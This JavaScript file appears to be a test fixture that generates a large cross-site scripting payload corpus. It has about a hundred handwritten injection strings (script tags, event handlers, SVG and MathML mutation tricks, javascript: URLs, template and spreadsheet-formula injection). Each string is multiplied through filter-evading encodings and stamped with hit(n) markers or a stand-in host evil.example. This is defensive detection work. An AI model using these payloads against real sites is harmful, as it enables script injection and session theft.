// Text that would run if some page took it for markup or for an address: written by hand, and each in several spellings. What runs
// calls hit(n) with its number, or asks the host "evil.example" for something.

/** By hand; # stands for the call. */
const WRITTEN = [
  '<script>#</script>', '<script src=//evil.example/x></script>', '<script>/*\n*/#//</script>', '</script><script>#</script>', '<SCRIPT\t>#</SCRIPT >', '<script x>#</script x',
  '<img src=x onerror=#>', '<img src=x onerror="#">', "<img src='x' onerror='#'>", '<img/src=x/onerror=#>', '<img\nsrc=x\nonerror=#\n>', '<img src=x onerror=# //', '<image src=x onerror=#>',
  '<svg onload=#>', '<svg/onload=#>', '<svg><script>#</script></svg>', '<svg><animate onbegin=# attributeName=x dur=1s>', '<svg><a xlink:href="javascript:#"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=#>#x">', '<svg><style><img src=x onerror=#></style></svg>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=#&gt;">',
  '<math href="javascript:#">x</math>', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=#>', '<noscript><p title="</noscript><img src=x onerror=#>">',
  '<iframe src="javascript:#"></iframe>', '<iframe srcdoc="<script>parent.#</script>"></iframe>', '<iframe src="data:text/html,<script>parent.#</script>"></iframe>', '<object data="javascript:#"></object>', '<embed src="javascript:#">',
  '<body onload=#>', '<details open ontoggle=#>x</details>', '<video src=x onerror=#></video>', '<video><source onerror=#></video>', '<audio src=x onerror=#>', '<input autofocus onfocus=#>', '<select autofocus onfocus=#>', '<textarea autofocus onfocus=#>',
  '<marquee onstart=#>x</marquee>', '<div onpointerenter=# style="position:fixed;inset:0">x</div>', '<p style="animation:x" onanimationstart=#>x</p>', '<a href="javascript:#" autofocus>x</a>', '<base href="//evil.example/">', '<link rel=stylesheet href="//evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:#">', '<meta http-equiv=refresh content="0;url=//evil.example/">', '<style>@import "//evil.example/x.css";</style>', '<style>*{background:url("//evil.example/x")}</style>', '<template><script>#</script></template>', '<slot onslotchange=#>', '<dousuru-chat onclick=#>',
  '"><script>#</script>', "'><img src=x onerror=#>", '" onmouseover="#" x="', "' autofocus onfocus='#' x='", '` onerror=`#`', '--><script>#</script><!--', ']]><script>#</script>', '</title><script>#</script>', '</textarea><script>#</script>', '</style><script>#</script>', '</template><img src=x onerror=#>', '</option></select><img src=x onerror=#>',
  "';#;//", '";#;//', '\\";#;//', '</script><img src=x onerror=#>', '${#}', '{{#}}', '{{.}}{{printf "%s" "<script>#</script>"}}', '<%= # %>', '#{#}', '{{constructor.constructor("#")()}}',
  'javascript:#', ' javascript:#', 'java\tscript:#', 'javascript://%0a#', 'data:text/html,<script>parent.#</script>', 'vbscript:#', '[x](javascript:#)', '[x](<javascript:#>)', '[x]( java\nscript:# )', '![x](x"onerror="#)', '![x](javascript:#)', '<javascript:#>', '[x]: javascript:#\n[x]', '[x](data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=)', '`<img src=x onerror=#>`', '```\n<script>#</script>\n```', '| <img src=x onerror=#> |\n|---|', '<!--><img src=x onerror=#>-->', '<![CDATA[<img src=x onerror=#>]]>', '<?xml version="1.0"?><script>#</script>',
  '=HYPERLINK("javascript:#")', '=cmd|" /C calc"!A0 <img src=x onerror=#>', '@import "//evil.example/x"', 'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */#)//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=#//>\\x3e',
]

/** How one text is spelled: what a filter, a decoder or a normal form on the way could turn back. @type {((text: string) => string)[]} */
const SPELLINGS = [
  (text) => text,
  (text) => text.replace(/</g, '＜').replace(/>/g, '＞').replace(/"/g, '＂').replace(/'/g, '＇'), // NFKC makes markup of it
  (text) => text.replace(/[<>"'&]/g, (sign) => `&#${sign.codePointAt(0)};`),
  (text) => text.replace(/[<>"']/g, (sign) => `&#x${sign.codePointAt(0)?.toString(16)};`).replace(/#x/g, '#X0'),
  (text) => text.replace(/[<>"' ]/g, (sign) => encodeURIComponent(sign).replace("'", '%27')),
  (text) => text.replace(/[<>"']/g, (sign) => `\\u00${sign.codePointAt(0)?.toString(16)}`),
  (text) => text.replace(/[a-z]{4,}/gi, (word) => [...word].map((c, i) => (i % 2 ? c.toUpperCase() : c.toLowerCase())).join('')).replace(/hIt/g, 'hit'),
  (text) => text.replace(/([<=])/g, '$1\u200b\ufeff'), // signs that cleaning takes out
  (text) => text.replace(/([<:])/g, '$1\x01\x0b'),
  (text) => `\u202e${text}\u202c日本語`,
]

/** Every text once, with its number in the call. */
export const PAYLOADS = [...new Set(WRITTEN.flatMap((text) => SPELLINGS.map((spell) => spell(text.replaceAll('#', '\0')))))]
  .map((text, n) => text.replaceAll('\0', `hit(${n})`))

/**
 * A text as one field gets it: what it calls or asks for says which text it is, and in which field it was written.
 * @param {number} n @param {number} field
 */
export function stamped(n, field) {
  const text = PAYLOADS[n].replaceAll(`hit(${n})`, `hit(${n},${field})`).replace(/evil\.example\//gi, (host) => `${host}${n},${field}/`)
  return STAMP.test(text) ? text : `${text} hit(${n},${field})`
}
const STAMP = /(?:hit(?:\(|%28)|evil\.example\/)(\d+)(?:,|%2C)(\d+)/i

/** What finds stamped texts in a page, in the form that pages of a browser take. */
export const STAMPS = STAMP.source
